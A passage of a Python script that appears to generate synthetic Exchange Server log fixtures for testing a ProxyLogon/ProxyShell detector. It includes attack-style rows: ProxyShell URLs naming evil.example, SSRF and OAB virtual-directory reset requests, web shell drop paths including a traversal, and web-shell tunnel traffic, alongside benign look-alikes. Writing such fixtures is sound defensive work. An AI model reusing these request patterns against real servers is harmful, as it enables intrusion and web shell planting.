    lines = iis_header("2021-03-04 02:14:09") + b1
    lines += iis_header("2021-03-04 11:02:40", f2) + b2
    lines += iis_header("2021-03-04 11:20:05", f2) + b3      # IIS restart, same fields
    write("variants/w3c-fields-change/inetpub/logs/LogFiles/W3SVC1/u_ex210304.log", lines)

    # (c2) ProxyShell as the front end's Autodiscover HttpProxy log would record it. Only
    # UrlStem/UrlQuery/HttpStatus are modelled on public detection; the routing columns of
    # these rows are left empty because no public sample shows them.
    def ps(ts, n, ip, ua, query, status, method="POST"):
        return base(ts, "a5000000-0000-4000-8000-%012d" % n, "Autodiscover", UrlHost="mail.contoso.com",
                    UrlStem="/autodiscover/autodiscover.json", AuthenticationType="", IsAuthenticated="false",
                    UserAgent=ua, ClientIpAddress=ip, ServerHostName="EX01", HttpStatus=status, Method=method,
                    ProxyAction="Proxy", UrlQuery=query)
    rows = [
        ps("2021-03-04T11:02:13.201Z", 1, "198.51.100.60", "python-requests/2.26.0",
           "?@evil.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.example", "401", "GET"),
        ps("2021-03-04T11:03:05.337Z", 2, "203.0.113.45", "Python PSRP Client",
           "?@evil.example/powershell/?X-Rps-CAT=" + cat + "&Email=autodiscover/autodiscover.json%3F@evil.example", "200"),
        ps("2021-03-04T11:04:51.910Z", 3, "203.0.113.45", "python-requests/2.26.0",
           "?@evil.example/EWS/exchange.asmx?&Email=autodiscover/autodiscover.json%3F@evil.example", "200"),
        base("2021-03-04T11:05:02.118Z", "a5000000-0000-4000-8000-000000000004", "Autodiscover", UrlHost="mail.contoso.com",
             UrlStem="/autodiscover/autodiscover.json", IsAuthenticated="false", AnchorMailbox="Smtp~bob@contoso.com",
             UserAgent="Outlook-iOS-Android/1.0", ClientIpAddress="192.0.2.50", ServerHostName="EX01", HttpStatus="200",
             Method="GET", ProxyAction="Proxy", TargetServer=EX, RoutingType="IntraForest", RoutingHint="Url-Smtp",
             UrlQuery="?Email=bob%40contoso.com&Protocol=ActiveSync&RedirectCount=1"),
    ]
    write("variants/proxyshell-httpproxy/Logging/HttpProxy/Autodiscover/HttpProxy_2021030411-1.LOG",
          proxy_log(rows, "2021-03-04T11:00:04.017Z"))

    # (d) messy: ragged rows, NUL, invalid UTF-8, blank line, LF/CRLF mix, no final newline.
    ip = "198.51.100.88"
    good = base("2021-03-03T16:00:05.120Z", "c0ffee00-0000-4000-8000-000000000001", "Ecp", UrlHost="mail.contoso.com",
                UrlStem="/ecp/", AuthenticationType="FBA", IsAuthenticated="true", AuthenticatedUser="CONTOSO\\admin",
                AnchorMailbox="Smtp~admin@contoso.com", UserAgent=CHROME, ClientIpAddress="192.0.2.31",
                ServerHostName="EX01", HttpStatus="200", Method="GET", ProxyAction="Proxy", TargetServer=EX,
                RoutingType="IntraForest", RoutingHint="Smtp-UserAddress")
    short = ssrf("2021-03-03T16:00:09.877Z", "c0ffee00-0000-4000-8000-000000000002", ip, PY, "/ecp/proxyLogon.ecp?#", "241")
    short_line = proxy_row(short).split(",")[:18]          # cut after ClientIpAddress
    long_row = dict(good, DateTime="2021-03-03T16:00:11.402Z", RequestId="c0ffee00-0000-4000-8000-000000000003")
    long_line = proxy_row(long_row) + ",extra1,extra2,extra3"
    nul_row = dict(good, DateTime="2021-03-03T16:00:12.050Z", RequestId="c0ffee00-0000-4000-8000-000000000004",
                   UserAgent="Mozilla/5.0 (Windows NT 10.0)\x00 Chrome/89")
    bad_utf8 = ssrf("2021-03-03T16:00:13.664Z", "c0ffee00-0000-4000-8000-000000000005", ip,
                    "python-requests/2.25.1 \udcff\udcfe caf\udce9 \udce2\udc82", "/mapi/emsmdb/?#", "200")
    last = ssrf("2021-03-03T16:00:15.090Z", "c0ffee00-0000-4000-8000-000000000006", ip, PY,
                "/ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary=Qp0xxxA1b.&schema=OABVirtualDirectory#", "200")
    head = [",".join(PROXY_FIELDS)] + directives("HttpProxy Logs", "2021-03-03T16:00:05.120Z", PROXY_FIELDS)
    body = [proxy_row(good), ",".join(short_line), long_line, proxy_row(nul_row), "", ",,,,,,,,",
            proxy_row(bad_utf8), proxy_row(last)]
    text = CRLF.join(head) + CRLF
    for i, b in enumerate(body):
        text += b
        if i < len(body) - 1:
            text += "\n" if i in (1, 4) else CRLF      # two lines end in a bare LF
    write_bytes("variants/messy/Logging/HttpProxy/Ecp/HttpProxy_2021030316-1.LOG",
                text.encode("utf-8", "surrogateescape"))

    # (e) ~100 KB line, shipped gzipped to keep the repository small.
    huge = dict(good, DateTime="2021-03-03T17:00:02.500Z", RequestId="d00dfeed-0000-4000-8000-000000000002",
                UserAgent="Mozilla/5.0 " + "A" * 102400)
    after = ssrf("2021-03-03T17:00:04.731Z", "d00dfeed-0000-4000-8000-000000000003", "203.0.113.12", PY,
                 "/ecp/proxyLogon.ecp?#", "241")
    first = dict(good, DateTime="2021-03-03T17:00:01.010Z", RequestId="d00dfeed-0000-4000-8000-000000000001")
    lines = [",".join(PROXY_FIELDS)] + directives("HttpProxy Logs", "2021-03-03T17:00:01.010Z", PROXY_FIELDS)
    lines += [proxy_row(first), proxy_row(huge), proxy_row(after)]
    raw = (CRLF.join(lines) + CRLF).encode()
    write_bytes("variants/longline/Logging/HttpProxy/Ecp/HttpProxy_2021030317-1.LOG.gz", gz(raw))

    # (f) SSRF rows with no client address: nothing ties them to a client, so they are
    # never downgraded to a failed attempt; one that itself went further is a success.
    rows = [
        ssrf("2021-03-03T19:00:01.100Z", "e0000000-0000-4000-8000-000000000001", "", PY, "/autodiscover/autodiscover.xml?#", "200"),
        ssrf("2021-03-03T19:00:02.200Z", "e0000000-0000-4000-8000-000000000002", "", PY, "/ecp/proxyLogon.ecp?#", "241"),
        ssrf("2021-03-03T19:00:03.300Z", "e0000000-0000-4000-8000-000000000003", "198.51.100.21", ESC, "/autodiscover/autodiscover.xml?#", "200"),
        ssrf("2021-03-03T19:00:04.400Z", "e0000000-0000-4000-8000-000000000004", "198.51.100.22", PY, "/mapi/emsmdb/?#", "200"),
    ]
    write("variants/no-client-ip/Logging/HttpProxy/Ecp/HttpProxy_2021030319-1.LOG",
          proxy_log(rows))

    # (g) an HttpProxy log known by its content only (exported, renamed, no HttpProxy\Ecp
    # folder): the Protocol column tells that the reset row went through ECP.
    ip = "203.0.113.23"
    rows = [
        ssrf("2021-03-03T20:00:01.500Z", "e1000000-0000-4000-8000-000000000001", ip, PY, "/ecp/proxyLogon.ecp?#", "241"),
        ssrf("2021-03-03T20:00:05.700Z", "e1000000-0000-4000-8000-000000000002", ip, PY,
             "/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=Rt5xxx9Qa.&schema=ResetOABVirtualDirectory#", "200"),
        ssrf("2021-03-03T20:00:06.900Z", "e1000000-0000-4000-8000-000000000003", ip, PY,
             "/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=Rt5xxx9Qa.&schema=ResetOABVirtualDirectory#", "200",
             protocol="Owa"),
    ]
    write("variants/content-only/export/ex01-frontend-proxy.log",
          directives("HttpProxy Logs", rows[0]["DateTime"], PROXY_FIELDS) + [proxy_row(v) for v in rows])
    # (h) reGeorg-style and Tunna-style web-shell tunnels in IIS: a connect, its data
    # requests (summed into one finding per client and script), and look-alikes.
    def w(t, method, stem, query, ip, ua, status):
        return " ".join(["2021-03-05", t, "192.0.2.10", method, stem, query, "443", "-", ip, ua, "-", status, "0", "0", "5"])
    rg = "203.0.113.77"
    lines = iis_header("2021-03-05 09:00:00") + [
        w("09:00:01", "POST", "/aspnet_client/tunnel.ashx", "cmd=connect&target=10.0.0.5&port=3389", rg, "python-requests/2.25.1", "200"),
        w("09:00:02", "POST", "/aspnet_client/tunnel.ashx", "cmd=forward", rg, "python-requests/2.25.1", "200"),
        w("09:00:02", "POST", "/aspnet_client/tunnel.ashx", "cmd=read", rg, "python-requests/2.25.1", "200"),
        w("09:00:03", "POST", "/Microsoft-Server-ActiveSync/Proxy/default.eas", "Cmd=Sync&User=bob&DeviceId=A1&DeviceType=iPhone",
          "192.0.2.60", "Apple-iPhone13C2/1805.114", "200"),
        w("09:00:04", "POST", "/aspnet_client/tunnel.ashx", "cmd=read", rg, "python-requests/2.25.1", "200"),
        w("09:00:05", "GET", "/owa/auth/RedirSuiteServiceProxy.aspx", "-", "192.0.2.61", "Mozilla/5.0", "200"),
        w("09:00:06", "POST", "/aspnet_client/tunnel.ashx", "cmd=read", rg, "python-requests/2.25.1", "500"),
        w("09:00:07", "GET", "/images/logo.gif", "proxy", "192.0.2.62", "Mozilla/5.0", "200"),
        w("09:00:09", "GET", "/erp/conn.aspx", "proxy&port=3389&ip=127.0.0.1", "198.51.100.90", "-", "200"),
        w("09:00:10", "POST", "/erp/conn.aspx", "proxy", "198.51.100.90", "-", "200"),
        w("09:00:11", "GET", "/erp/conn.aspx", "proxy", "198.51.100.90", "-", "200"),
        w("09:00:12", "POST", "/aspnet_client/tunnel.ashx", "cmd=disconnect", rg, "python-requests/2.25.1", "200"),
    ]
    write("variants/tunnel/inetpub/logs/LogFiles/W3SVC1/u_ex210305.log", lines)

    # The CsvStrict form (a bare header, no # line at all), exported as .csv.
    rows = [ssrf("2021-03-03T20:10:00.100Z", "e1000000-0000-4000-8000-000000000004", ip, PY, "/mapi/emsmdb/?#", "200")]
    write("variants/content-only/export/ex01-proxy-strict.csv", [",".join(PROXY_FIELDS)] + [proxy_row(v) for v in rows])


# --------------------------------------------------------------------------
# oabgen/: CVE-2021-26858 message lines. The line framing is NOT verified
# (no public OABGenerator log sample was found); the message text is.
# --------------------------------------------------------------------------
def oab_line(ts, msg):
    return ",".join([ts, "EX01", "6412", "OABGenerator", csv_field(msg)])


def gen_oabgen():
    oab = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB\\Temp\\"
    msgs = [
        ("2021-03-04T02:10:11.518Z", "Downloading files for fileSetId='6f2b1a3c-0d4e-4f5a-9b8c-7d6e5f4a3b2c' from mailbox folder 'OAB' in filesystem folder %sOABa1b2c3d4.x1y" % oab),
        ("2021-03-04T02:10:11.934Z", "Download failed and temporary file '%sOABa1b2c3d4.x1y\\oab.lzx' needs to be removed" % oab),
        ("2021-03-04T02:11:45.123Z", "Download failed and temporary file 'C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\8Lw7tAhF9i1pJnRo.aspx' needs to be removed"),
        ("2021-03-04T02:11:47.602Z", "Download failed and temporary file '\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\shell.aspx' needs to be removed"),
        ("2021-03-04T02:12:03.090Z", "Download failed and temporary file 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OABx\\errorEE.aspx' needs to be removed"),
        ("2021-03-04T02:12:30.771Z", "Download failed and temporary folder 'C:\\inetpub\\wwwroot\\aspnet_client\\tmpA1' needs to be removed"),
        # ClientAccess\OAB, but under a web folder: not the install's (Test-ProxyLogon's prefix check flags it)
        ("2021-03-04T02:13:02.310Z", "Download failed and temporary file 'C:\\inetpub\\wwwroot\\aspnet_client\\ClientAccess\\OAB\\x.aspx' needs to be removed"),
        # a traversal out of the OAB folder (missed by a plain prefix check)
        ("2021-03-04T02:13:15.882Z", "Download failed and temporary file '%s..\\..\\FrontEnd\\HttpProxy\\owa\\auth\\trav.aspx' needs to be removed" % oab),
        # benign: Exchange installed on another drive, in a folder named for it
        ("2021-03-04T02:14:40.005Z", "Download failed and temporary file 'D:\\Exchange\\ClientAccess\\OAB\\Temp\\OABe5f6a7b8.x1y\\oab.lzx' needs to be removed"),
    ]
    write("oabgen/Logging/OABGeneratorLog/OABGeneratorLog_20210304-1.LOG",
          ["#Software: Microsoft Exchange Server", "#Log-type: OABGenerator Log (framing synthetic)",
           "#Fields: DateTime,Server,ProcessId,Component,Message"] + [oab_line(t, m) for t, m in msgs])


# --------------------------------------------------------------------------
# clean/: a healthy server, look-alikes included
# --------------------------------------------------------------------------
SID = "S-1-5-21-3623811015-3361044348-30300820-%d"


def gen_clean():
    def ok(ts, rid, proto, stem, user, anchor, ua, cip, status="200", method="GET", hint="Smtp-UserAddress", **kw):
        v = base(ts, rid, proto, UrlHost="mail.contoso.com", UrlStem=stem,
                 AuthenticationType=kw.pop("auth", "FBA" if proto in ("Owa", "Ecp") else "Negotiate"),
                 IsAuthenticated="true" if user else "false", AuthenticatedUser=user, AnchorMailbox=anchor,
                 UserAgent=ua, ClientIpAddress=cip, ServerHostName="EX01", HttpStatus=status, Method=method,
                 ProxyAction="Proxy", TargetServer=EX, TargetServerVersion="15.01.2176.002",
                 RoutingType="IntraForest", RoutingHint=hint, **kw)
        return v
    probe_ua = "AMProbe/Local/ClientAccess"
    hm = "HealthMailbox3c1f0a5e8b9d4c2a9f0e1d2c3b4a5968"

    def rid(p, n):
        return "%s-1d2e-4f3a-8b4c-%012d" % (p, n)

    sets = {
        "Owa": ("2021031009", [
            ok("2021-03-10T09:00:12.404Z", rid("a1000001", 1), "Owa", "/owa/", "", "", CHROME, "192.0.2.41", "302", hint=""),
            ok("2021-03-10T09:00:12.731Z", rid("a1000001", 2), "Owa", "/owa/auth/logon.aspx", "", "", CHROME, "192.0.2.41", hint="", UrlQuery="?url=https%3a%2f%2fmail.contoso.com%2fowa%2f&reason=0"),
            ok("2021-03-10T09:00:21.090Z", rid("a1000001", 3), "Owa", "/owa/auth.owa", "CONTOSO\\alice", "Smtp~alice@contoso.com", CHROME, "192.0.2.41", "302", "POST"),
            ok("2021-03-10T09:00:22.515Z", rid("a1000001", 4), "Owa", "/owa/", "CONTOSO\\alice", "Smtp~alice@contoso.com", CHROME, "192.0.2.41"),
            ok("2021-03-10T09:00:24.880Z", rid("a1000001", 5), "Owa", "/owa/service.svc", "CONTOSO\\alice", "Smtp~alice@contoso.com", CHROME, "192.0.2.41", method="POST", UrlQuery="?action=GetFolder&app=Mail&n=3"),
            ok("2021-03-10T09:01:00.002Z", rid("a1000001", 6), "Owa", "/owa/", "CONTOSO\\%s" % hm, "Smtp~%s@contoso.com" % hm, probe_ua, "::1"),
            ok("2021-03-10T09:05:41.377Z", rid("a1000001", 7), "Owa", "/owa/service.svc", "CONTOSO\\bob", "Sid~" + SID % 1108, CHROME, "192.0.2.42", method="POST", hint="WindowsIdentity", UrlQuery="?action=GetAccessTokenforResource&app=Mail&n=41"),
            ok("2021-03-10T09:07:13.650Z", rid("a1000001", 8), "Owa", "/owa/auth/errorFE.aspx", "", "", CHROME, "192.0.2.45", hint="", UrlQuery="?httpCode=500"),
        ]),
        "Ecp": ("2021031010", [
            ok("2021-03-10T10:14:02.118Z", rid("e2000002", 1), "Ecp", "/ecp/", "CONTOSO\\admin", "Smtp~admin@contoso.com", CHROME, "192.0.2.31"),
            ok("2021-03-10T10:14:03.377Z", rid("e2000002", 2), "Ecp", "/ecp/15.1.2176/scripts/microsoft.exchange.controlpanel.client.owaoptions.js", "CONTOSO\\admin", "ServerInfo~" + EX, CHROME, "192.0.2.31", hint="X-BEResource-Cookie"),
            ok("2021-03-10T10:14:09.905Z", rid("e2000002", 3), "Ecp", "/ecp/DDI/DDIService.svc/GetList", "CONTOSO\\admin", "Smtp~admin@contoso.com", CHROME, "192.0.2.31", method="POST", UrlQuery="?schema=VirtualDirectory&msExchEcpCanary=q8Vd2xxx9Zc."),
            ok("2021-03-10T10:15:30.266Z", rid("e2000002", 4), "Ecp", "/ecp/DDI/DDIService.svc/GetObject", "CONTOSO\\admin", "Smtp~admin@contoso.com", CHROME, "192.0.2.31", method="POST", UrlQuery="?schema=OWAVirtualDirectory&msExchEcpCanary=q8Vd2xxx9Zc."),
            ok("2021-03-10T10:16:02.741Z", rid("e2000002", 5), "Ecp", "/ecp/DDI/DDIService.svc/SetObject", "CONTOSO\\admin", "Smtp~admin@contoso.com", CHROME, "192.0.2.31", method="POST", UrlQuery="?schema=OWAVirtualDirectory&msExchEcpCanary=q8Vd2xxx9Zc."),
            ok("2021-03-10T10:20:00.009Z", rid("e2000002", 6), "Ecp", "/ecp/", "CONTOSO\\%s" % hm, "Smtp~%s@contoso.com" % hm, probe_ua, "::1"),
            ok("2021-03-10T10:31:44.502Z", rid("e2000002", 7), "Ecp", "/ecp/auth/TimeoutLogoff.aspx", "", "", CHROME, "192.0.2.31", hint="", UrlQuery="?ts=1615372304"),
        ]),
        "Ews": ("2021031011", [
            ok("2021-03-10T11:02:19.220Z", rid("b3000003", 1), "Ews", "/EWS/Exchange.asmx", "CONTOSO\\carol", "Smtp~carol@contoso.com", "Microsoft Office/16.0 (Macintosh; Mac OS X 10.15; Microsoft Outlook 16.46.211; Pro)", "192.0.2.43", method="POST", auth="Basic"),
            ok("2021-03-10T11:03:40.611Z", rid("b3000003", 2), "Ews", "/EWS/Exchange.asmx", "CONTOSO\\svc-crm", "Smtp~svc-crm@contoso.com", "ExchangeServicesClient/15.00.0913.015", "192.0.2.60", method="POST"),
            ok("2021-03-10T11:04:00.004Z", rid("b3000003", 3), "Ews", "/EWS/Exchange.asmx", "CONTOSO\\%s" % hm, "Smtp~%s@contoso.com" % hm, probe_ua, "::1", method="POST"),
            ok("2021-03-10T11:09:12.870Z", rid("b3000003", 4), "Ews", "/EWS/Exchange.asmx", "", "", "Microsoft Office/16.0 (Macintosh; Mac OS X 10.15; Microsoft Outlook 16.46.211; Pro)", "192.0.2.43", "401", "POST", hint="", auth="Basic"),
        ]),
        "Eas": ("2021031012", [
            ok("2021-03-10T12:00:31.402Z", rid("c4000004", 1), "Eas", "/Microsoft-Server-ActiveSync/default.eas", "CONTOSO\\bob", "Sid~" + SID % 1108, "Outlook-iOS-Android/1.0", "192.0.2.50", method="POST", hint="WindowsIdentity", auth="Basic", UrlQuery="?Cmd=Sync&User=bob&DeviceId=A1B2C3D4E5F6A7B8&DeviceType=Outlook"),
            ok("2021-03-10T12:00:33.019Z", rid("c4000004", 2), "Eas", "/Microsoft-Server-ActiveSync/default.eas", "CONTOSO\\bob", "Sid~" + SID % 1108, "Outlook-iOS-Android/1.0", "192.0.2.50", "200", "OPTIONS", hint="WindowsIdentity", auth="Basic"),
            ok("2021-03-10T12:05:00.001Z", rid("c4000004", 3), "Eas", "/Microsoft-Server-ActiveSync/default.eas", "CONTOSO\\%s" % hm, "Smtp~%s@contoso.com" % hm, probe_ua, "::1", method="OPTIONS"),
        ]),
        "Mapi": ("2021031013", [
            ok("2021-03-10T13:00:04.551Z", rid("d5000005", 1), "Mapi", "/mapi/emsmdb/", "CONTOSO\\alice", "MailboxGuid~8f1c0e2a-4b3d-4e5f-9a6b-7c8d9e0f1a2b@contoso.com", OUTLOOK, "192.0.2.41", method="POST", hint="MailboxGuidWithDomain", UrlQuery="?MailboxId=8f1c0e2a-4b3d-4e5f-9a6b-7c8d9e0f1a2b@contoso.com"),
            ok("2021-03-10T13:00:04.990Z", rid("d5000005", 2), "Mapi", "/mapi/nspi/", "CONTOSO\\alice", "MailboxGuid~8f1c0e2a-4b3d-4e5f-9a6b-7c8d9e0f1a2b@contoso.com", OUTLOOK, "192.0.2.41", method="POST", hint="MailboxGuidWithDomain", UrlQuery="?MailboxId=8f1c0e2a-4b3d-4e5f-9a6b-7c8d9e0f1a2b@contoso.com"),
            ok("2021-03-10T13:00:05.117Z", rid("d5000005", 3), "Mapi", "/mapi/emsmdb/", "", "", OUTLOOK, "192.0.2.41", "401", "POST", hint=""),
        ]),
        "Autodiscover": ("2021031014", [
            ok("2021-03-10T14:00:02.300Z", rid("f6000006", 1), "Autodiscover", "/autodiscover/autodiscover.xml", "CONTOSO\\alice", "Sid~" + SID % 1105, OUTLOOK, "192.0.2.41", method="POST", hint="WindowsIdentity",
               BackEndCookie="Server~%s~1942062522~2021-03-10T15:00:02" % EX),
            ok("2021-03-10T14:00:09.874Z", rid("f6000006", 2), "Autodiscover", "/autodiscover/autodiscover.json/v1.0/bob@contoso.com", "", "Smtp~bob@contoso.com", "Outlook-iOS-Android/1.0", "192.0.2.50", hint="Url-Smtp", UrlQuery="?Protocol=ActiveSync&RedirectCount=1"),
            ok("2021-03-10T14:00:10.215Z", rid("f6000006", 3), "Autodiscover", "/autodiscover/autodiscover.json", "", "Smtp~bob@contoso.com", "Outlook-iOS-Android/1.0", "192.0.2.50", hint="Url-Smtp", UrlQuery="?Email=bob%40contoso.com&Protocol=ActiveSync&RedirectCount=1"),
            ok("2021-03-10T14:10:00.003Z", rid("f6000006", 4), "Autodiscover", "/autodiscover/autodiscover.xml", "CONTOSO\\%s" % hm, "Smtp~%s@contoso.com" % hm, probe_ua, "::1", method="POST"),
        ]),
    }
    for proto, (hour, rows) in sets.items():
        lines = proxy_log(rows)
        write("clean/Logging/HttpProxy/%s/HttpProxy_%s-1.LOG" % (proto, hour), lines)

    owa_id = "3b9c5d1e-7f20-4a8b-9c6d-e1f2a3b4c5d6"
    cmds = [
        ("2021-03-10T10:14:09.870Z", "Get-VirtualDirectory", "/ecp/DDI/DDIService.svc/GetList?schema=VirtualDirectory&msExchEcpCanary=q8Vd2xxx9Zc."),
        ("2021-03-10T10:15:30.221Z", "Get-OwaVirtualDirectory.Identity='%s'" % owa_id, "/ecp/DDI/DDIService.svc/GetObject?schema=OWAVirtualDirectory&msExchEcpCanary=q8Vd2xxx9Zc."),
        ("2021-03-10T10:16:02.655Z", "Set-OwaVirtualDirectory.ExternalUrl='https://mail.contoso.com/owa'.Identity='%s'" % owa_id, "/ecp/DDI/DDIService.svc/SetObject?schema=OWAVirtualDirectory&msExchEcpCanary=q8Vd2xxx9Zc."),
        ("2021-03-10T10:16:02.698Z", "Get-OwaVirtualDirectory.Identity='%s'" % owa_id, "/ecp/DDI/DDIService.svc/SetObject?schema=OWAVirtualDirectory&msExchEcpCanary=q8Vd2xxx9Zc."),
        ("2021-03-10T10:20:00.012Z", "Get-InboxRule.Mailbox='%s'" % hm, "/ecp/RulesEditor/InboxRules.svc/GetList?msExchEcpCanary=hM0pxxxQ1e."),
        ("2021-03-10T10:22:47.300Z", "Get-Mailbox.ResultSize=500.SortBy='DisplayName'", "/ecp/UsersGroups/Mailboxes.svc/GetList?msExchEcpCanary=q8Vd2xxx9Zc."),
        ("2021-03-10T10:23:05.814Z", "Set-Mailbox.MailTip='<html><body>Back on Monday</body></html>'.Identity='carol'", "/ecp/UsersGroups/Mailboxes.svc/SetObject?msExchEcpCanary=q8Vd2xxx9Zc."),
    ]
    ecp = []
    for n, (ts, cmd, url) in enumerate(cmds):
        data = ";".join([
            "S:TIME=%d" % (12 + 9 * n), "S:SID=61a0c9d2-33e4-4b15-8f6a-0d9e8c7b6a%02x" % n, member("S:CMD=" + cmd),
            "S:REQID=", member("S:URL=" + url), "S:REFERRER=", "S:EX=",
            "S:ACTID=2f8e7d6c-5b4a-4392-8170-6f5e4d3c2b%02x" % n, "S:RS=0", "S:BLD=15.1.2176.2",
            "S:TNAME=<null>", "S:TID=", "S:USID=9a8b7c6d-5e4f-4a3b-2c1d-0e9f8a7b6c5d", "S:EDOID=", "S:ACID="])
        ecp.append(",".join([ts, "EX01", "ECP.Request", csv_field(data)]))
    write("clean/Logging/ECP/Server/ECPServer20210310-1.LOG",
          directives("ECP Server Log", "2021-03-10T00:00:37.010Z", ECP_FIELDS, version="15.0.0.0") + ecp, bom=True)

    oab = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB\\Temp\\"
    write("clean/Logging/OABGeneratorLog/OABGeneratorLog_20210310-1.LOG",
          ["#Software: Microsoft Exchange Server", "#Log-type: OABGenerator Log (framing synthetic)",
           "#Fields: DateTime,Server,ProcessId,Component,Message",
           oab_line("2021-03-10T02:10:11.518Z", "Downloading files for fileSetId='6f2b1a3c-0d4e-4f5a-9b8c-7d6e5f4a3b2c' from mailbox folder 'OAB' in filesystem folder %sOABf9e8d7c6.q2w" % oab),
           oab_line("2021-03-10T02:10:12.020Z", "Download failed and temporary file '%sOABf9e8d7c6.q2w\\oab.lzx' needs to be removed" % oab)])

    chrome = "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/89.0.4389.82+Safari/537.36"
    n = [0]

    def fe(t, meth, stem, query, user, cip, ua, status, took="15"):
        n[0] += 1
        q = (query + "&" if query != "" else "&") + "CorrelationID=<empty>;&cafeReqId=5e6f7a8b-9c0d-4e1f-a2b3-%012d;" % n[0]
        return " ".join(["2021-03-10", t, "192.0.2.10", meth, stem, q, "443", user, cip, ua, "-", status, "0", "0", took])
    w1 = [
        fe("09:00:12", "GET", "/owa/", "", "-", "192.0.2.41", chrome, "302"),
        fe("09:00:12", "GET", "/owa/auth/logon.aspx", "url=https%3a%2f%2fmail.contoso.com%2fowa%2f&reason=0", "-", "192.0.2.41", chrome, "200"),
        fe("09:00:12", "GET", "/owa/auth/15.1.2176/themes/resources/favicon.ico", "", "-", "192.0.2.41", chrome, "200"),
        fe("09:00:21", "POST", "/owa/auth.owa", "", "CONTOSO\\alice", "192.0.2.41", chrome, "302"),
        fe("09:00:22", "GET", "/owa/", "", "CONTOSO\\alice", "192.0.2.41", chrome, "200", "312"),
        fe("09:00:24", "POST", "/owa/service.svc", "action=GetFolder&app=Mail&n=3", "CONTOSO\\alice", "192.0.2.41", chrome, "200"),
        fe("09:01:00", "GET", "/owa/healthcheck.htm", "", "-", "127.0.0.1", "AMProbe/Local/ClientAccess", "200", "0"),
        fe("09:07:13", "GET", "/owa/auth/errorFE.aspx", "httpCode=500", "-", "192.0.2.45", chrome, "200"),
        fe("09:08:40", "GET", "/owa/auth/expiredpassword.aspx", "url=/owa/", "-", "192.0.2.45", chrome, "200"),
        fe("10:14:02", "GET", "/ecp/", "", "CONTOSO\\admin", "192.0.2.31", chrome, "200", "420"),
        fe("10:14:09", "POST", "/ecp/DDI/DDIService.svc/GetList", "schema=VirtualDirectory&msExchEcpCanary=q8Vd2xxx9Zc.", "CONTOSO\\admin", "192.0.2.31", chrome, "200"),
        fe("10:16:02", "POST", "/ecp/DDI/DDIService.svc/SetObject", "schema=OWAVirtualDirectory&msExchEcpCanary=q8Vd2xxx9Zc.", "CONTOSO\\admin", "192.0.2.31", chrome, "200", "301"),
        fe("10:31:44", "GET", "/ecp/auth/TimeoutLogoff.aspx", "ts=1615372304", "-", "192.0.2.31", chrome, "200"),
        fe("11:02:19", "POST", "/EWS/Exchange.asmx", "", "CONTOSO\\carol", "192.0.2.43", "Microsoft+Office/16.0+(Macintosh;+Mac+OS+X+10.15;+Microsoft+Outlook+16.46.211;+Pro)", "200", "46"),
        fe("11:03:40", "POST", "/EWS/Exchange.asmx", "", "CONTOSO\\svc-crm", "192.0.2.60", "ExchangeServicesClient/15.00.0913.015", "200", "61"),
        fe("12:00:31", "POST", "/Microsoft-Server-ActiveSync/default.eas", "Cmd=Sync&User=bob&DeviceId=A1B2C3D4E5F6A7B8&DeviceType=Outlook", "CONTOSO\\bob", "192.0.2.50", "Outlook-iOS-Android/1.0", "200", "1033"),
        fe("13:00:04", "POST", "/mapi/emsmdb/", "MailboxId=8f1c0e2a-4b3d-4e5f-9a6b-7c8d9e0f1a2b@contoso.com", "CONTOSO\\alice", "192.0.2.41", "Microsoft+Office/16.0+(Windows+NT+10.0;+Microsoft+Outlook+16.0.13801;+Pro)", "200", "28"),
        fe("14:00:02", "POST", "/autodiscover/autodiscover.xml", "", "CONTOSO\\alice", "192.0.2.41", "Microsoft+Office/16.0+(Windows+NT+10.0;+Microsoft+Outlook+16.0.13801;+Pro)", "200", "33"),
        fe("14:00:09", "GET", "/autodiscover/autodiscover.json/v1.0/bob@contoso.com", "Protocol=ActiveSync&RedirectCount=1", "-", "192.0.2.50", "Outlook-iOS-Android/1.0", "200", "12"),
        fe("14:00:10", "GET", "/autodiscover/autodiscover.json", "Email=bob%40contoso.com&Protocol=ActiveSync&RedirectCount=1", "-", "192.0.2.50", "Outlook-iOS-Android/1.0", "200", "10"),
    ]
    write("clean/inetpub/logs/LogFiles/W3SVC1/u_ex210310.log", iis_header("2021-03-10 09:00:12") + w1)

    def be(t, meth, stem, query, user, cip, ua, status, took="9"):
        return " ".join(["2021-03-10", t, "192.0.2.10", meth, stem, query or "-", "444", user, cip, ua, "-", status, "0", "0", took])
    w2 = [
        be("09:00:22", "GET", "/owa/", "", "CONTOSO\\alice", "192.0.2.10", chrome, "200", "280"),
        be("10:16:02", "POST", "/ecp/DDI/DDIService.svc/SetObject", "schema=OWAVirtualDirectory&msExchEcpCanary=q8Vd2xxx9Zc.&ActID=2f8e7d6c-5b4a-4392-8170-6f5e4d3c2b02", "CONTOSO\\admin", "192.0.2.10", chrome, "200", "270"),
        be("10:40:15", "POST", "/PowerShell/", "serializationLevel=Full;ExchClientVer=15.1.2176.2;clientApplication=ManagementShell;TargetServer=;PSVersion=5.1.14393.4222", "CONTOSO\\admin", "192.0.2.10", "Microsoft+WinRM+Client", "200", "1502"),
        be("13:00:04", "POST", "/mapi/emsmdb/", "MailboxId=8f1c0e2a-4b3d-4e5f-9a6b-7c8d9e0f1a2b@contoso.com", "CONTOSO\\alice", "192.0.2.10", "Microsoft+Office/16.0+(Windows+NT+10.0;+Microsoft+Outlook+16.0.13801;+Pro)", "200", "21"),
    ]
    write("clean/inetpub/logs/LogFiles/W3SVC2/u_ex210310.log", iis_header("2021-03-10 09:00:22") + w2)


# --------------------------------------------------------------------------
# scan-only/ and failed-only/
# --------------------------------------------------------------------------
def gen_scan_only():
    def probe(ts, n, proto, stem, cip, ua, anchor, status, hint, ver, rtype, method="GET"):
        return base(ts, "5ca40000-0000-4000-8000-%012d" % n, proto, UrlHost="192.0.2.10", UrlStem=stem,
                    AuthenticationType="FBA", IsAuthenticated="false", AnchorMailbox=anchor, UserAgent=ua,
